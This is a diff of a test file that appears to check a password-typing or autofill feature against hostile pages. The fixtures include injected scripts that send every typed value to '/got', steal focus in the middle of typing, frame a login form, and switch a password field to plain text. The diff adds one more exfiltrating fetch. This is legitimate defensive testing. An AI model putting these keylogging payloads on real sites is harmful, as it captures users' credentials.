@@ -38,7 +38,8 @@ LOGIN: Final = f"<form action=/login><input type=password name=p id=p style='{PL
 REPORTS: Final = "<script>addEventListener('input', (e) => fetch('/got?v=' + encodeURIComponent(e.target.value)))</script>"
 _AREA: Final = (
     "<style>.b::before{{content:attr(data-v)}}</style><div style='position:absolute;top:200px;left:40px;font:16px sans-serif'>"
-    "<p id=out></p><input id=o><textarea id=area></textarea><input type=button id=button value=x><canvas id=canvas width=300 height=60></canvas></div>"
+    "<p id=out></p><input id=o><textarea id=area></textarea><input type=button id=button value=x>"
+    "<canvas id=canvas width=300 height=60></canvas></div>"
 )
 
 
@@ -98,11 +99,13 @@ PLACES: Final = (
     Case("another's frame over the field", html=LOGIN, framed=LOGIN + REPORTS),
     Case("sandboxed frame", html="", framed=LOGIN + REPORTS, framed_host=SHOP, frame_options="sandbox='allow-scripts allow-forms'"),
     Case("field that takes the focus in mid-typing", html=LOGIN + f"<input id=t style='{SECOND}'><script>for (const kind of ['keydown',"
-         " 'beforeinput', 'input']) p.addEventListener(kind, () => t.focus())</script>", do=_types(_HOLDER)),
+         " 'beforeinput', 'input']) p.addEventListener(kind, () => t.focus()); t.addEventListener('input',"
+         " () => fetch('/got?v=' + encodeURIComponent(t.value)))</script>", do=_types(_HOLDER)),
     Case("focus that moves every millisecond", html=f"<input id=t style='{SECOND}'><script>setInterval(() => (Math.random() < .5 ? t :"
          " f).focus(), 1)</script>" + REPORTS, host=EVIL, framed=LOGIN, framed_host=SHOP, do=_types(_HOLDER) * 4, quick=True),
     Case("password field that becomes a text field", html=LOGIN + REPORTS
-         + "<script>p.addEventListener('focus', () => setTimeout(() => p.type = 'text', 100))</script>", do=(Click(point=FIELD), Wait(seconds=0.3), TypeText(text=_HOLDER))),
+         + "<script>p.addEventListener('focus', () => setTimeout(() => p.type = 'text', 100))</script>",
+         do=(Click(point=FIELD), Wait(seconds=0.3), TypeText(text=_HOLDER))),
     Case("nothing has the focus", html="<h1>Type your password</h1>" + REPORTS),
     Case("used up", html=LOGIN + f"<input type=password name=p style='{SECOND}'>", options=";uses=1", logs_in=True,
          do=(*_LOGS_IN, Click(point=FIELD), TypeText(text=_HOLDER), TypeText(text=_HOLDER))),
